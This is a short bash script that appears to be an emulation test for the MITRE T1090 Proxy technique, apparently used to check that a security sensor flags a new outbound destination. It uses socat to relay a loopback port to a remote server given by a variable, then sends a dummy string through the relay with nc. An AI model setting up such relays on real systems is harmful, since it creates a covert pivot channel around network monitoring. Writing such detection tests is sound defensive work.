#!/usr/bin/env bash
# tactic: command-and-control
# technique: T1090 Proxy
# behaviour: starts a local relay that forwards a loopback port to the outside server (a pivot for other tools)
# as: user
# needs: remote
# expect: new_destination
set -u
socat TCP-LISTEN:18443,bind=127.0.0.1,reuseaddr,fork TCP:$SNTL_REMOTE:443 &
relay=$!
for i in $(seq 50); do ss -ltn | grep -q ':18443 ' && break; sleep 0.1; done
echo 'tunnelled data' | timeout 5 nc -N 127.0.0.1 18443 > /dev/null || true
kill $relay
